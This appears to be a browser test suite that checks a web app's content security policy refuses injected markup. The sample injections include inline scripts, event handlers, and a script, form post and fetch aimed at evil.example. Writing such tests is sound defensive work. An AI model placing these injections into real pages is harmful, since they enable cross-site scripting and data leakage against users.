// The content security policy as a browser keeps it: what a page must not do is refused, and a story in which a page tries it fails.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { Company, DESK, launch } from "../support/browser.mjs";
import { startDemo } from "../support/demo.mjs";
import { MEMBER } from "../support/meeting.mjs";

/** Each is what somebody's text would do if it came back as markup. */
const TRIES = {
  "an inline script": () => document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = true" })),
  "a script of another site": () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })),
  "an inline style": () => document.body.append(Object.assign(document.createElement("style"), { textContent: "body { display: none }" })),
  "a style attribute": () => document.body.setAttribute("style", "display: none"),
  "an event handler": () => {
    document.body.setAttribute("onclick", "globalThis.ran = true");
    document.body.click();
  },
  "a picture of another site": () => document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" })),
  "a frame": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "/" })),
  "a form to another site": () => {
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a request to another site": () => fetch("https://evil.example/").catch(() => {}),
};

describe("the content security policy", () => {
  let browser, demo;
  before(async () => {
    [browser, demo] = await Promise.all([launch(), startDemo()]);
  });
  after(async () => {
    await browser.close();
    await demo.stop();
  });

  for (const [what, tried] of Object.entries(TRIES))
    test(`refuses ${what}, and the story fails`, async () => {
      const company = new Company(browser, demo);
      const member = await company.member(MEMBER, DESK);
      const refused = member.waitForEvent("console", (message) => message.text().startsWith("refused by the content security policy"));
      await member.evaluate(tried);
      await refused;
      assert.equal(await member.evaluate(() => globalThis.ran), undefined, "nothing of it ran");
      await assert.rejects(company.close(), /the pages complained[^]*refused by the content security policy/);
    });

  test("lets a page that tries nothing be", async () => {
    const company = new Company(browser, demo);
    await company.member(MEMBER, DESK);
    await company.close();
  });
});
